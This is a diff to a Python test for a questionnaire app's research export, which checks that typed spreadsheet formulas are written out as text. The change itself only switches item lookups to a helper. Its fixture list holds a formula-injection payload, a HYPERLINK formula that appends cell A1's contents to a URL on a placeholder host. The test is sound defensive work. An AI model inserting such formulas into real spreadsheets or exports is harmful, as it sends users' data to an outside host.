@@ -27,6 +27,7 @@ from lt_desktop.domain.vocabulary import (
     QuestionnairePhase,
 )
 from tests.cli.support import run_as
+from tests.helpers.questionnaires import item_id
 
 DANGEROUS = [
     '=HYPERLINK("http://example.invalid/?d="&A1,"Click")',
@@ -93,12 +94,12 @@ def test_the_research_export_writes_typed_formulas_as_text(demo: Workspace, tmp_
     answered: list[str] = []
     for person_id, text in zip(answering, [*DANGEROUS, ORDINARY], strict=False):
         _share_consent(demo, person_id)
-        answers: dict[uuid.UUID, int | str | None] = {i.id: 3 for i in template.likert_items}
-        answers[free_text.id] = text
+        answers: dict[uuid.UUID, int | str | None] = {item_id(i): 3 for i in template.likert_items}
+        answers[item_id(free_text)] = text
         saved_answers = demo.questionnaires.save_response(
             template.id, autumn.id, person_id, QuestionnairePhase.POST, answers
         )
-        answered.append(str(saved_answers[free_text.id]))
+        answered.append(str(saved_answers[item_id(free_text)]))
     assert len(answered) == len(DANGEROUS) + 1
 
     folder = tmp_path / "export"
